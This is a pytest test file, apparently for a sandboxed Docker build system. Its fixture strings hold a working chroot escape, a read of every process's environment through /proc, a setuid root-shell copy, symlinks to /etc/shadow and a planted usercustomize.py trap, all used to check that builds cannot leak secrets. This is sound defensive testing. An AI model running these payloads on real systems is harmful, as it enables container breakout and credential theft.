"""Real builds that break out of their step and leave traps for the reader of the image; and what builds can see."""

from __future__ import annotations

import subprocess
import uuid
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest

from evaluation.builder.docker_build_settings import BuildSettings
from evaluation.builder.docker_builder import DockerBuilder
from evaluation.domain.players import QueryPlayer
from evaluation.sandbox.docker_engine import NO_NETWORK, connect_engine
from evaluation.sandbox.host_process import runner_label

Make = Callable[..., Path]

OUT = '''
import os

def leave() -> None:
    """Leave the root directory of the step for that of the build's container."""
    outer = os.open("/", os.O_RDONLY)
    os.mkdir("/jail")
    os.chroot("/jail")
    os.fchdir(outer)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
'''

TRAPS = f"""{OUT}
import pathlib, subprocess, sys, time

secrets = subprocess.run("cat /proc/[0-9]*/environ | tr '\\\\0' '\\\\n'", shell=True, capture_output=True, text=True)
print("environment of every process:", secrets.stdout, flush=True)
for name, kind in (("device", 0o20666), ("block-device", 0o60666)):
    try:
        os.mknod("/" + name, kind, os.makedev(1, 3))
    except OSError as error:
        print(name, error.strerror, flush=True)
os.system("cp /bin/sh /root-shell && chmod 6755 /root-shell")
os.symlink("/etc/shadow", "/link"); os.symlink("../" * 40 + "etc/shadow", "/long-link")
os.close(os.open("/sparse", os.O_CREAT | os.O_WRONLY)); os.truncate("/sparse", 30_000_000)
if os.fork() == 0:
    os.setsid()
    os.execvp("sleep", ["sleep", "600"])
leave()
# modules that an export with this home would run
modules = pathlib.Path("/store/home/.local/lib/python3.11/site-packages")
modules.mkdir(parents=True)
(modules / "usercustomize.py").write_text("import os; print('the trap has run', flush=True); os._exit(0)")
settings = pathlib.Path("/store/home/.config/containers")
settings.mkdir(parents=True)
(settings / "storage.conf").write_text("[storage]\\ndriver = 'vfs'\\ngraphroot = '/store/other'\\n")
print("traps are set", flush=True)
time.sleep(1)  # what a step prints at its end may be lost, since the process that it left keeps its output open
"""


def docker(*words: str) -> str:
    return subprocess.run(["docker", *words], capture_output=True, text=True, check=True, timeout=120).stdout


@pytest.mark.slow(15)
@pytest.mark.docker
def test_traps_of_a_build_catch_nothing_and_secrets_of_the_site_are_nowhere(
    make_repository: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = uuid.uuid4().hex
    for name in ("SECRET_KEY", "DATABASE_URL", "GAUNTLET_BROKER", "GAUNTLET_SECRET_KEY", "EMAIL_URL"):
        monkeypatch.setenv(name, f"postgresql://site:{secret}@database/site")
    steps = [f"FROM {BuildSettings().base_image}", f"ENV UNIQUE={secret[:6]}", "COPY . /player", "WORKDIR /player"]
    source = make_repository(
        files={
            "Dockerfile": "\n".join([*steps, "RUN python3 traps.py\n"]),
            "traps.py": TRAPS,
            "main.py": "import os\nprint('plays', os.stat('/sparse').st_size, dict(os.environ))\n",
        }
    )
    log: list[str] = []
    settings = BuildSettings(index_url=f"https://site:{secret}@mirror.example/simple")

    player = DockerBuilder(settings).build(source, on_log=log.append)

    try:
        text = "\n".join(log)
        assert "traps are set" in text
        assert "the trap has run" not in text
        printed = played(player)
        assert printed.startswith("plays 30000000 ")
        identity = str(player.image)
        for shown in (text, printed, docker("history", "--no-trunc", identity), docker("inspect", identity)):
            assert secret not in shown
        assert docker("volume", "ls", "--quiet", "--filter", f"label=gauntlet.build={runner_label()}") == ""
    finally:
        docker("rmi", "--force", str(player.image))


def played(player: QueryPlayer) -> str:
    with closing(connect_engine()) as client:
        output: bytes = client.containers.run(
            str(player.image),
            list(player.command),
            **NO_NETWORK,
            read_only=True,
            user="65534:65534",
            cap_drop=["ALL"],
            remove=True,
        )
    return output.decode()
